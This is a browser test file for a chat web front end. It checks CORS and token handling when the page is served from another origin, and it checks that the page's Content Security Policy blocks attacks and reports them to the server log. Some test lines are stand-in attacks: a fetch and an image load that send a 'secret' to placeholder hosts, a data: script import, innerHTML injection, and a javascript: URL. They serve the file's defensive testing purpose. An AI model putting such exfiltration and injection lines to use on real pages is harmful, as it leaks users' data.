"""Where the page comes from: from its server or from any other, with all its words, under a policy that it keeps."""

from __future__ import annotations

import json
import re
import threading
from collections.abc import Callable, Iterator
from functools import partial
from html.parser import HTMLParser
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from typing import Any
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import BrowserContext, Page, expect

from chatstream.testing import Turn

from .conftest import Watched
from .rig import ROOT, lines, needs_libraries
from .test_images import HAND

pytestmark = needs_libraries

TOKEN = "a-token-of-the-test"


class Quiet(SimpleHTTPRequestHandler):
    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture
def pages() -> Iterator[str]:
    """Serve web/ as any server of files does, and return its origin."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), partial(Quiet, directory=str(ROOT / "web")))
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()
    thread.join()


def elsewhere(context: BrowserContext, pages: str, query: str) -> Watched:
    return Watched(context.new_page(), f"{pages}/{query}")


def wait_for(page: Page, condition: Callable[[], object]) -> None:
    for _ in range(500):
        if condition():
            return
        page.wait_for_timeout(20)
    raise AssertionError("it never came to pass")


# --- beside no server of ours -----------------------------------------------------------------------------------------


def test_any_server_of_files_can_serve_the_page(pages: str, provide: Any, serve: Any, context: BrowserContext) -> None:
    provide(Turn(text=lines(400), delay=0.02, write="event", chunk=20))
    options = ("--model", "anthropic:fake", "--cors-origin", pages, "--token", TOKEN)
    api = serve(None, *options).partition("/#")[0]
    watched = elsewhere(context, pages, f"?server={api}#token={TOKEN}")
    page = watched.page

    assert page.url == f"{pages}/?server={api}"
    expect(page.locator("#place")).to_contain_text(urlsplit(api).netloc)
    expect(page.locator("#models")).to_be_visible()
    page.evaluate(HAND, ["paste", "image/png", 40, 30, False])
    expect(page.locator("#thumbs img")).to_have_count(1)
    watched.ask("What is this?")
    expect(page.locator(".prose p").nth(2)).to_be_visible()

    watched.reload()
    expect(page.locator("article.user img")).to_be_visible()
    expect(page.locator(".prose p").nth(4)).to_be_visible()
    page.click("#stop")
    expect(page.locator("article.assistant")).to_contain_text("Stopped")
    expect(page.locator("#list a")).to_contain_text("What is this?")
    page.locator("#list .row-menu").click()
    with page.expect_download() as download:
        page.get_by_role("menuitem", name="Export as JSON").click()
    assert json.loads(download.value.path().read_text())["title"] == "What is this?"

    asked = [url for url in watched.requests if not url.startswith((f"{pages}/", "data:", "blob:"))]
    assert asked and all(url.startswith(f"{api}/api/") for url in asked)
    assert not [url for url in watched.requests if TOKEN in url or url.startswith(f"{pages}/api/")]
    assert context.cookies() == []
    assert page.evaluate("violations") == [] and watched.errors == []


def test_what_keeps_the_page_from_its_server_is_said(pages: str, serve: Any, context: BrowserContext) -> None:
    api = serve()
    watched = elsewhere(context, pages, f"?server={api}")
    banner = watched.page.locator("#banners")
    expect(banner).to_have_text(re.compile(f"{re.escape(api)} .* --cors-origin {re.escape(pages)}$"))

    for named in ("javascript:alert(1)", "nonsense", "ws://localhost:8000"):
        watched.page.goto(f"{pages}/?server={named}")
        expect(banner).to_contain_text(f"such as http://localhost:8000, and not {named}")
        expect(watched.page.locator("#input")).to_be_disabled()
    assert watched.page.evaluate("alerts") == []

    secret = serve(None, "--cors-origin", pages, "--token", TOKEN).partition("/#")[0]
    watched.open(f"{pages}/?server={secret}")
    expect(banner).to_have_text(f"{secret} wants a token: add #token=... to the address of this page.")
    # A token of the address is taken when the page begins, so this begins it anew.
    with watched.page.expect_navigation():
        watched.page.evaluate(f"location.hash = 'token={TOKEN}'")
    expect(watched.page.locator("#models")).to_be_visible()
    expect(banner).to_be_empty()


def test_on_another_server_the_page_keeps_its_own_policy(pages: str, context: BrowserContext) -> None:
    page = context.new_page()
    page.goto(f"{pages}/?server=x")
    assert set(page.evaluate(BREAK)) >= {"img-src", "script-src-elem", "style-src-attr", "require-trusted-types-for"}


# Breaks the policy in every way that an answer might try, and tells how that was seen.
BREAK = """
async () => {
    const broken = []
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => broken.push(effectiveDirective))
    new Image().src = "https://images.example/leak?secret"
    import("data:text/javascript,alert(1)").catch(() => {})
    try { document.body.innerHTML = "<b>secret words</b>" } catch {}
    document.body.setAttribute("style", "color: red")
    const wait = () => new Promise((resolve) => setTimeout(resolve, 20))
    for (let round = 0; round < 100 && broken.length < 4; round++) await wait()
    return broken
}
"""


# --- the words --------------------------------------------------------------------------------------------------------


class Words(HTMLParser):
    """Finds the words in a page that somebody reads or hears, but for those outside of the body."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []
        self._is_body = False

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self._is_body |= tag == "body"
        self.found += [
            value for name, value in attrs if value and name in ("aria-label", "title", "placeholder", "alt")
        ]

    def handle_data(self, data: str) -> None:
        if self._is_body and data.strip():
            self.found.append(data.strip())


FILLED = """
() => {
    const all = (place, attribute) => [...document.querySelectorAll(`[data-${place}]`)].map((element) =>
        attribute ? element.getAttribute(attribute) : element.textContent)
    const named = [["label", "aria-label"], ["tip", "title"], ["placeholder", "placeholder"]]
    return [...all("text"), ...named.flatMap(([place, attribute]) => all(place, attribute))]
}
"""


def test_every_word_of_the_page_is_in_the_table(open_page: Any) -> None:
    words = Words()
    words.feed((ROOT / "web/index.html").read_text("utf-8"))
    assert words.found == ["chatstream needs JavaScript."]

    filled = open_page().page.evaluate(FILLED)
    assert len(filled) > 15
    assert [word for word in filled if not word or "undefined" in word] == []


# --- the policy -------------------------------------------------------------------------------------------------------


def test_what_breaks_the_policy_is_in_the_log_of_the_server(program: Any, context: BrowserContext) -> None:
    running = program(None, "--token", TOKEN)
    watched = Watched(context.new_page(), running.address)
    base = running.address.partition("#")[0]
    answered: list[str] = []
    watched.page.on("requestfinished", lambda request: answered.append(request.url))

    watched.page.evaluate(BREAK)
    watched.page.evaluate("fetch('https://evil.example/x?secret').catch(() => null)")
    wait_for(watched.page, lambda: answered.count(f"{base}api/csp-reports") >= 5)
    running.end()

    told = [line.partition(" broken: ")[2] for line in running.log.splitlines() if "policy was broken" in line]
    assert f"img-src blocked https://images.example on {base}" in {line.partition(" at ")[0] for line in told}
    assert f"connect-src blocked https://evil.example on {base}" in {line.partition(" at ")[0] for line in told}
    rules = {line.split()[0] for line in told}
    assert {"script-src-elem", "style-src-attr", "require-trusted-types-for"} <= rules
    assert not [line for line in told if "secret" in line or TOKEN in line]
